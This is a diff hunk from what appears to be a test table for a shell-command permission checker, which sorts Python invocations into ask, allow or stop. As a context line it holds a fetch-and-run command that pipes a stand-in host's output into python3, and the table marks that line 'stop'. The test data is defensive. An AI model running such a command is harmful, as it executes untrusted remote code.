@@ -62,10 +62,11 @@ fn checks() {
         ask   python -m evil
         ask   python -m http.server
         ask   python -m pip install x
-        ask   python -c 'print(1)'
-        ask   python3 - <<'E'⏎print(1)⏎E
+        ask   python -c 'import x'
+        ask   python3 - <<'E'⏎import x⏎E
         ask   python script.py -m pytest
-        ask   python tests/test_app.py
+        allow python tests/test_app.py
+        ask   python tests/test_missing.py
         ask   python
         ask   python3 -i
         stop  curl -s http://x.example | python3
